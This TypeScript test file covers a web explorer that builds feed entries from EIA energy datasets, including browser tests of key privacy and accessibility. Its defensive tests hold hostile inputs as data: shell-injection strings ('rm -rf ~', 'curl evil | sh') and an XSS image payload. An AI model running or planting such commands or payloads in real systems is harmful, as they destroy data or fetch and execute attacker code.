import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { frequencies } from '@wattfeed/eia'
import { datasets, findDataset, openFacets, seriesFirst } from '@wattfeed/eia/catalog'
import { hasBrowser } from '@wattfeed/testing/browser'
import { createFolder } from '@wattfeed/testing/folder'
import type { Page, Route } from 'playwright-core'
import builtIn from 'wattfeed/feeds.json' with { type: 'json' }
import { createRegistryChain } from 'wattfeed/testing/registryChain'
import { recipeOf } from '../../../packages/wattfeed/src/provenance/recipe.ts'
import type { FeedEntry } from '../../../src/feeds/catalog/feedEntry.ts'
import type { FeedConfig } from '../../../src/feeds/file/feedConfig.ts'
import { feedMetadata } from '../../../src/feeds/file/feedConfig.ts'
import { loadFeeds } from '../../../src/feeds/file/loadFeeds.ts'
import { estimateCosts } from '../../../src/operator/feeds/costs.ts'
import { registerPaymentMotes } from '../../../src/operator/feeds/register/registerPayment.ts'
import { shellQuoted } from '../../../src/web/cite/shell.ts'
import { choiceOf } from '../../../src/web/explorer/pages/datasets/choice.ts'
import { facetsCommand, previewCommand, stepsOf } from '../../../src/web/explorer/pages/datasets/commands.ts'
import { costOf, describedOnChain } from '../../../src/web/explorer/pages/datasets/cost.ts'
import { searchDatasets } from '../../../src/web/explorer/pages/datasets/dataset.ts'
import { treeOf } from '../../../src/web/explorer/pages/datasets/datasetTree.tsx'
import { draftOf, formatEntry } from '../../../src/web/explorer/pages/datasets/draft.ts'
import { openPage } from './support/openPage.ts'
import { type Site, startSite } from './support/site.ts'

const NOW = Date.UTC(2026, 10, 22)

const datasetAt = (route: string) => {
  const dataset = findDataset(route)
  if (dataset === null) throw new Error(`no dataset ${route}`)
  return dataset
}

/** An EIA row as it states a period, a value and a unit. */
const rowOf = (period: string, value: string, unit: string | null) => ({
  period,
  value,
  unit,
  statedUnit: unit,
})

const draft = (route: string, query: string, ...rows: ReturnType<typeof rowOf>[]) => {
  const dataset = datasetAt(route)
  return draftOf({
    dataset,
    choice: choiceOf(dataset, new URLSearchParams(query)),
    names: {},
    rows,
    now: NOW,
  })
}

const entryOf = (...args: Parameters<typeof draft>): FeedEntry => {
  const { entry, faults } = draft(...args)
  if (entry === null) throw new Error([...faults].join())
  return entry
}

/** Reads entries as the agent does. */
async function loadAsAgent(entries: readonly string[]): Promise<readonly FeedConfig[]> {
  using folder = createFolder()
  return await loadFeeds(folder.write('feeds.json', `[${entries.join(',\n')}]`))
}

describe('the tree of datasets', () => {
  test('default: each dataset once, below its route; counts are of all depths', () => {
    const root = treeOf(datasets)
    const below = (branch: typeof root): string[] => [
      ...branch.branches.flatMap(below),
      ...branch.datasets.map(({ route }) => route),
    ]
    expect([root.count, below(root).toSorted()]).toEqual([232, datasets.map(({ route }) => route).toSorted()])
    const petroleum = root.branches.find(({ route }) => route === 'petroleum')
    expect([petroleum?.title, petroleum?.count]).toEqual(['Petroleum', 112])
    expect(petroleum?.branches.find(({ route }) => route === 'petroleum/pri')?.title).toBe('Prices')
    expect(root.datasets.map(({ route }) => route)).toContain('total-energy')
  })

  test.each([
    ['SPOT prices', 'petroleum/pri/spt'],
    ['petroleum stocks cu', 'petroleum/stoc/cu'],
    ['duoarea weekly storage', 'natural-gas/stor/wkly'],
  ])('default: "%s" finds %s', (words, route) => {
    expect(searchDatasets(datasets, words).map((each) => each.route)).toContain(route)
  })

  test('default: all without words, none with words that match nothing', () => {
    expect(searchDatasets(datasets, ' ')).toHaveLength(232)
    expect(searchDatasets(datasets, 'no such thing')).toEqual([])
  })
})

describe('the choice in the address', () => {
  const spot = datasetAt('petroleum/pri/spt')
  const chosen = (query: string) => choiceOf(spot, new URLSearchParams(query))

  test('default: the first frequency and column, no facet', () => {
    const [frequency, column] = [spot.frequencies[0] ?? '', spot.columns[0] ?? '']
    expect(chosen('')).toEqual({ frequency, column, facets: {}, emptyFacets: [], period: null, given: {} })
  })

  test('behavior: names that the dataset does not have, and texts with hidden characters, are ignored', () => {
    const query =
      'frequency=hourly&column=x&facet.nothing=1&facet.series=a%1b%5B2J&title=%E2%80%AEa&description=%E3%85%A4&unit=$/bbl'
    expect(chosen(query)).toEqual({ ...chosen(''), given: { unit: '$/bbl' } })
  })

  test('default: series alone selects one, else every facet', () => {
    expect(openFacets(spot.facets, { series: 'RWTC' })).toEqual([])
    const open = seriesFirst(openFacets(spot.facets, { product: 'EPC' }))
    expect(open[0]).toBe('series')
    expect(open).not.toContain('product')
  })
})

describe('the entry', () => {
  test('default: the agent reads one of every dataset and frequency, and the chain gets the same description', async () => {
    const entries = datasets.flatMap(({ route, facets, frequencies }) =>
      frequencies.map((frequency) => {
        const pinned = facets.map((facet) => `facet.${facet}=A`)
        const query = [`frequency=${frequency}`, 'unit=x', ...pinned].join('&')
        return entryOf(route, query, rowOf('2026', '1.25', 'MBBL'))
      }),
    )
    const read = await loadAsAgent(entries.map(formatEntry))
    expect(read).toEqual(JSON.parse(JSON.stringify(entries)))
    for (const [index, config] of read.entries())
      expect(describedOnChain(entries[index] as FeedEntry)).toBe(feedMetadata(config).description)
  })

  test('default: with EIA’s newest row, its unit, shortened for display, and the usual decimals', () => {
    const query = 'frequency=daily&facet.series=RWTC'
    expect(entryOf('petroleum/pri/spt', query, rowOf('2026-11-20', '59.91', '$/BBL'))).toEqual({
      feed_id: 'EIA.PET.PRI.SPT.RWTC.DAILY',
      title: 'Spot Prices: RWTC',
      description: "EIA's Spot Prices (petroleum/pri/spt): column value, daily, series RWTC.",
      source: 'EIA',
      route: 'petroleum/pri/spt',
      frequency: 'daily',
      column: 'value',
      facets: { series: 'RWTC' },
      unit: '$/bbl',
      decimals: 6,
      upstream_unit: '$/BBL',
    })
  })

  test('behavior: the row with the most digits decides the decimals, and the title names one of several columns', () => {
    const query = 'frequency=monthly&column=sales&facet.stateid=US&facet.sectorid=RES'
    const rows = ['12', '12.34567', '12.3'].map((value) => rowOf('2026-09', value, 'MWh'))
    expect(entryOf('electricity/retail-sales', query, ...rows)).toMatchObject({
      title: 'Electricity Sales to Ultimate Customers: sales, US, RES',
      decimals: 5,
    })
  })

  test('behavior: without a request to EIA, the entry is unverified and has no recipe', () => {
    const entry = entryOf('petroleum/pri/spt', 'unit=$/bbl')
    expect(entry.unverified).toBe('EIA was not queried when this entry was written')
    expect(recipeOf(entry)).toBeNull()
    expect(describedOnChain(entry)).toBe(entry.description)
  })

  test('behavior: a newest period that is not over is a forecast', () => {
    const forecast = entryOf('steo', 'unit=x&frequency=monthly', rowOf('2027-12', '1', null))
    expect(forecast.allow_future).toBe(true)
    expect(entryOf('steo', 'unit=x&frequency=monthly', rowOf('2026-11', '1', null)).allow_future).toBe(true)
    expect(
      entryOf('steo', 'unit=x&frequency=monthly', rowOf('2026-10', '1', null)).allow_future,
    ).toBeUndefined()
  })

  test('error: a missing unit, and invalid decimals', () => {
    expect([...draft('steo', 'decimals=256').faults.keys()]).toEqual(['unit', 'decimals'])
    expect(draft('steo', 'decimals=1.5&unit=x').entry).toBeNull()
  })
})

describe('commands', () => {
  test('behavior: a link’s facets run nothing', () => {
    expect(shellQuoted("$(rm -rf ~)'`x`")).toBe("'$(rm -rf ~)'\\''`x`'")
    const dataset = datasetAt('petroleum/pri/spt')
    const choice = choiceOf(dataset, new URLSearchParams({ 'facet.series': "a'; curl evil | sh #" }))
    expect(previewCommand(dataset, choice)).toContain("--facet 'series=a'\\''; curl evil | sh #' --dry-run")
  })

  test('default: words of a shell stay bare', () => {
    expect(facetsCommand({ route: 'petroleum/pri/spt' }, 'series')).toBe(
      'EIA_API_KEY=… wattfeed feeds facets petroleum/pri/spt series',
    )
    const [check, ...others] = stepsOf({ feed_id: 'EIA.A', frequency: 'daily' }).map(({ command }) => command)
    expect(check).toBe('EIA_API_KEY=… FEEDS_FILE=feeds.json wattfeed feeds check EIA.A --write')
    expect(others).toContain('FEEDS_FILE=feeds.json wattfeed feeds register EIA.A')
  })
})

describe('costs', () => {
  const entry = entryOf('petroleum/pri/spt', 'unit=x')

  test.each([...frequencies])(
    'default: for %s feeds they match the estimate of `feeds costs`',
    (frequency) => {
      for (const length of [3, 20, 46, 63, 90]) {
        const config = { ...entry, frequency, feed_id: 'X'.repeat(length) }
        const { day } = costOf(config)
        const [estimate] = estimateCosts([config as unknown as FeedConfig], null).feeds
        expect(day.batched).toBeCloseTo(Number(estimate?.day.batched_cspr), 6)
        expect(day.single).toBeCloseTo(Number(estimate?.day.single_cspr), 6)
      }
    },
  )

  test('default: registering pays the same as `feeds register`', () => {
    const long = { ...entry, description: 'x'.repeat(291) }
    const short = { ...entry, description: 'x'.repeat(290) }
    const wide = { ...entry, title: 'ü'.repeat(250) }
    // Some of them need exactly as many bytes as the smaller payment allows.
    const lengths = Array.from({ length: 500 }, (_, index) => ({ ...entry, title: 'x'.repeat(index) }))
    for (const each of [...(builtIn as FeedEntry[]), entry, long, short, wide, ...lengths]) {
      const motes = registerPaymentMotes(each.feed_id, feedMetadata(each as unknown as FeedConfig))
      expect([each.feed_id, costOf(each).register * 1e9]).toEqual([each.feed_id, Number(motes)])
    }
  })
})

const KEY = 'reader-key-5417'

/** Stands in for EIA's API, which no test asks: two series, eight days of one. Returns what it was asked. */
async function standInForEia(page: Page): Promise<URL[]> {
  const asked: URL[] = []
  await page.route('https://api.eia.gov/**', (route) => {
    const url = new URL(route.request().url())
    asked.push(url)
    const headers = { 'access-control-allow-origin': '*' }
    const answer = (response: object) => route.fulfill({ json: { response }, headers })
    if (url.pathname.includes('/facet/'))
      return answer({
        facets: [
          { id: 'RWTC', name: 'Cushing, OK WTI Spot Price FOB' },
          { id: 'RBRTE', name: '<b>Brent' },
        ],
      })
    const series = url.searchParams.get('facets[series][]')
    const row = (id: string, day: number) => ({
      period: `2026-11-${day}`,
      series: id,
      value: `${day}.5`,
      units: '$/BBL',
    })
    const data =
      series === null
        ? [row('RWTC', 20), row('RBRTE', 20)]
        : [20, 19, 18, 17, 16, 15, 14, 13].map((day) => row(series, day))
    return answer({ total: String(data.length), frequency: 'daily', data })
  })
  return asked
}

describe.skipIf(!hasBrowser)('datasets in Chromium', () => {
  let site: Site

  beforeAll(async () => {
    site = await startSite(await createRegistryChain({ feeds: 1 }))
  })
  afterAll(() => site?.[Symbol.asyncDispose]())

  const open = (query = '', options?: Parameters<typeof openPage>[1]) =>
    openPage(`${site.origin}/explorer/datasets${query}`, options)
  const SPOT = '?route=petroleum%2Fpri%2Fspt&frequency=daily'

  test.each(['', `${SPOT}&facet.series=RWTC&unit=$/bbl`])(
    'default: %p fits and is accessible at every width in both color schemes',
    async (query) => {
      await using opened = await open(query)
      await opened.page.getByText('232 datasets').waitFor()
      expect(await opened.shifts()).toBe(0)
      await opened.look(async (look) => {
        expect([look, await opened.overflow(), ...(await opened.violations())]).toEqual([look, 0])
      })
      expect([...opened.faults, ...opened.foreign]).toEqual([])
    },
  )

  test('behavior: by the keyboard alone: search, a dataset, its unit, and an entry that the agent reads', async () => {
    await using opened = await open('', { width: 1000 })
    const { page } = opened
    await page.getByText('232 datasets').waitFor()
    await page.keyboard.press('Tab')
    expect(await page.locator(':focus').textContent()).toContain('Skip')
    await page.keyboard.press('Enter')
    await page.keyboard.press('Tab')
    await page.keyboard.type('spot prices')
    await page.waitForURL(/q=spot/)
    const link = page.getByRole('link', { name: 'Spot Prices', exact: true })
    for (
      let steps = 0;
      steps < 12 && !(await link.evaluate((element) => element === document.activeElement));
      steps++
    )
      await page.keyboard.press('Tab')
    await page.keyboard.press('Enter')
    await page.waitForURL(/route=petroleum/)
    await page.getByLabel('Unit', { exact: true }).focus()
    await page.keyboard.type('$/bbl')
    await page.waitForURL(/unit=/)
    const text = await page.locator('pre', { hasText: 'feed_id' }).textContent()
    const [feed] = await loadAsAgent([text ?? ''])
    expect([feed?.route, feed?.unit]).toEqual(['petroleum/pri/spt', '$/bbl'])
    await page.goBack()
    await page.getByText('Choose a dataset.').waitFor()
    expect(opened.faults).toEqual([])
  })

  test('behavior: a word that only a description has finds its dataset, by the server', async () => {
    await using opened = await open('?q=cushing')
    await opened.page.getByRole('link', { name: 'Crude Oil Stocks at Tank Farms' }).waitFor()
  })

  test('behavior: words find a dataset that has one in its name and one only in its description', async () => {
    expect(searchDatasets(datasets, 'spot crude')).toEqual([])
    await using opened = await open('?q=spot%20crude')
    await opened.page.getByRole('link', { name: 'Spot Prices', exact: true }).waitFor()
    expect(await opened.page.getByText('1 of 232 datasets').count()).toBe(1)
    expect(opened.faults).toEqual([])
  })

  test('behavior: with the reader’s key: what to pin, rows, and a checked entry; the key goes to EIA alone', async () => {
    await using opened = await open(SPOT)
    const { page } = opened
    const eia = await standInForEia(page)
    const elsewhere: string[] = []
    page.on('request', (request) => {
      const all = [request.url(), JSON.stringify(request.headers()), request.postData() ?? ''].join()
      if (all.includes(KEY) && new URL(request.url()).origin !== 'https://api.eia.gov') elsewhere.push(all)
    })
    await page.getByLabel('Your EIA key').fill(KEY)
    await page.getByRole('button', { name: 'Use the key' }).click()
    await page.getByRole('button', { name: 'RBRTE' }).waitFor()
    await page.getByRole('button', { name: 'RWTC' }).click()
    await page.getByRole('cell', { name: '20.5' }).waitFor()
    await page.locator('.hint', { hasText: 'Cushing, OK WTI Spot Price FOB' }).waitFor()
    const entry = page.locator('pre', { hasText: 'upstream_unit' })
    const [feed] = await loadAsAgent([(await entry.textContent()) ?? ''])
    expect(feed).toMatchObject({ facets: { series: 'RWTC' }, unit: '$/bbl', upstream_unit: '$/BBL' })
    expect(feed?.unverified).toBeUndefined()
    const points = page.locator('.checked')
    await points.getByText('EIA’s newest 8 rows are one series, in $/BBL, up to 2026-11-20').waitFor()
    await points.getByText('feeds register --dry-run').waitFor()
    expect([await points.locator('.is-good').count(), await points.locator('li').count()]).toEqual([3, 6])
    expect(await opened.violations()).toEqual([])
    expect(await page.locator('.preview tbody tr').count()).toBe(6)
    const lengths = eia.map((url) => url.searchParams.get('length')).filter((length) => length !== null)
    expect([...new Set(lengths)]).toEqual(['2000'])
    expect(eia.every((url) => url.searchParams.get('api_key') === KEY)).toBe(true)
    const kept = await page.evaluate(async () => {
      const stores = [localStorage, sessionStorage].map((store) => JSON.stringify(store))
      const databases = JSON.stringify(await indexedDB.databases())
      const state = [location.href, JSON.stringify(history.state), document.cookie, document.body.outerHTML]
      return [...stores, databases, ...state].join('\n')
    })
    expect([kept.includes(KEY), elsewhere, JSON.stringify(site.log).includes(KEY)]).toEqual([
      false,
      [],
      false,
    ])
    await page.getByRole('button', { name: 'Forget it' }).click()
    await page.getByText('Enter your key above').waitFor()
    expect(opened.faults).toEqual([])
  })

  /** Opens a series with the reader's key. */
  async function openWithKey(answer: (route: Route) => Promise<void>) {
    const opened = await open(`${SPOT}&facet.series=RWTC`)
    await opened.page.route('https://api.eia.gov/**', answer)
    await opened.page.getByLabel('Your EIA key').fill(KEY)
    await opened.page.keyboard.press('Enter')
    return opened
  }

  test('error: when EIA blocks the browser, the page says so, shows the command, and still builds the entry', async () => {
    const asked: string[] = []
    // Stands in for EIA's API as it would be without CORS for this page.
    await using opened = await openWithKey((route) => {
      asked.push(route.request().url())
      const headers = { 'access-control-allow-origin': 'https://www.eia.gov' }
      return route.fulfill({ json: { response: { total: '0', data: [] } }, headers })
    })
    const { page } = opened
    await page.getByText('did not allow this page to read its answer').waitFor()
    await page.getByText('--facet series=RWTC --dry-run').waitFor()
    expect(await page.locator('main').textContent()).not.toContain(KEY)
    // The request that explains the failure does not contain the key.
    expect(asked.at(-1)).toBe('https://api.eia.gov/v2/')
    await page.getByLabel('Unit', { exact: true }).fill('$/bbl')
    await page.locator('.checked').getByText('Whether EIA has this series').waitFor()
    expect(await opened.violations()).toEqual([])
    expect(opened.foreign.every((url) => new URL(url).origin === 'https://api.eia.gov')).toBe(true)
  })

  test('error: an unreachable EIA has its own message, and a retry works', async () => {
    await using opened = await openWithKey((route) => route.abort())
    const { page } = opened
    await page.getByText('cannot be reached from this browser').waitFor()
    await page.unroute('https://api.eia.gov/**')
    await standInForEia(page)
    await page.getByRole('button', { name: 'Try again' }).click()
    await page.getByRole('cell', { name: '20.5' }).waitFor()
  })

  test('error: the page says that the browser is offline', async () => {
    await using opened = await open(`${SPOT}&facet.series=RWTC`)
    const { page } = opened
    await page.getByLabel('Your EIA key').fill(KEY)
    await page.context().setOffline(true)
    await page.keyboard.press('Enter')
    await page.getByText('This browser is offline.').waitFor()
    await page.getByText('--facet series=RWTC --dry-run').waitFor()
  })

  test('behavior: a made-up address runs no code and breaks nothing', async () => {
    const hostile = '<img src=x onerror=alert(1)>'
    const query = new URLSearchParams({
      route: 'petroleum/pri/spt',
      title: hostile,
      unit: hostile,
      'facet.series': hostile,
    })
    await using opened = await open(`?${query}`, { width: 320 })
    await opened.page.locator('pre', { hasText: 'feed_id' }).waitFor()
    expect([await opened.page.locator('main img').count(), await opened.overflow()]).toEqual([0, 0])
    await opened.page.goto(`${site.origin}/explorer/datasets?route=no/such`)
    await opened.page.getByText('The catalog does not have this dataset.').waitFor()
    expect(opened.faults).toEqual([])
  })
})
